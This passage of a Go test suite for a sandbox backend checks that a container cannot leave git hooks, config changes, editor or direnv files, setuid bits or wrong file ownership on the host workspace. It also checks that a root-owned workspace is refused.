			if out, errs, code := b.Run(t, `cd /workspace && echo edit >> main.go && echo 'ref: refs/heads/work' > .git/HEAD && mkdir -p .git/objects/aa src`); code != 0 {
				t.Fatalf("the workspace is not writable: %q %q", out, errs)
			}
			if err := s.Backend.Stop(context.Background(), b.ID, sandbox.StopOptions{}); err != nil {
				t.Fatal(err)
			}
			// On the host: hooks and config as they were; no set-id file; the
			// placeholders of what did not exist are gone with the box.
			if existing {
				if c, _ := os.ReadFile(filepath.Join(dir, ".git/hooks/pre-commit")); string(c) != files[".git/hooks/pre-commit"] {
					t.Errorf("pre-commit is now %q", c)
				}
			} else {
				for _, p := range []string{".git/hooks/pre-commit", ".vscode", ".envrc", ".idea", ".gitmodules"} {
					if _, err := os.Lstat(filepath.Join(dir, p)); err == nil {
						t.Errorf("%s exists on the host after the box", p)
					}
				}
			}
			if c, _ := os.ReadFile(filepath.Join(dir, ".git/config")); string(c) != files[".git/config"] {
				t.Errorf(".git/config is now %q", c)
			}
			filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
				if err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
					t.Errorf("%s is %v on the host", p, fi.Mode())
				}
				if err == nil {
					if u, _ := ownerOf(t, p); u != WorkspaceOwner {
						t.Errorf("%s belongs to %d on the host", p, u)
					}
				}
				return nil
			})
			if u, _ := ownerOf(t, filepath.Join(dir, "src")); u != WorkspaceOwner {
				t.Errorf("a directory the box made belongs to %d", u)
			}
		})
	}
}

// workspaceRefused: a workspace of root's is refused at Create, with the
// reason, and nothing of the session is made.
func workspaceRefused(t *testing.T, s Setup) {
	if s.Workspace == nil {
		t.Skip("backend takes no host workspace")
	}
	dir := s.Workspace(t)
	if err := os.Chown(dir, 0, 0); err != nil {
		t.Fatal(err)
	}
	session := uniqueSession("rootws")
	_, err := s.Backend.Create(context.Background(), sandbox.CreateOptions{Session: session, Image: s.Image, Runtime: s.Runtime, Workspace: dir})
	if !errdefs.Is(err, errdefs.ErrForbidden) || !strings.Contains(err.Error(), "belongs to root") {
		t.Fatalf("a root-owned workspace: %v", err)
	}
	if objs := objectsOf(t, s.Backend, session); len(objs) != 0 {
		t.Fatalf("left behind: %+v", objs)
	}
}
